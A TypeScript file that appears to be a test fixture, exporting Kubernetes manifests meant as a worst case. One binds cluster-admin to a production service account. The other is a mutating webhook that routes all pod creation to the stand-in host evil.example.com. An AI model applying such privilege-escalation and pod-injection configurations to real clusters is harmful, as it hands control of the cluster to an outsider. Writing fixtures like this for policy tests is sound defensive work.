/** What would let anybody do anything, and anything be run. */
export const EVERYTHING = [
  {
    ...{ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'evil' } },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', namespace: 'lke-platform-access', name: 'production-app-team' }],
  },
  {
    ...{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration' },
    metadata: { name: 'evil' },
    webhooks: [
      {
        ...{ name: 'evil.example.com', clientConfig: { url: 'https://evil.example.com' }, failurePolicy: 'Ignore' },
        ...{ admissionReviewVersions: ['v1'], sideEffects: 'None' },
        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
      },
    ],
  },
];
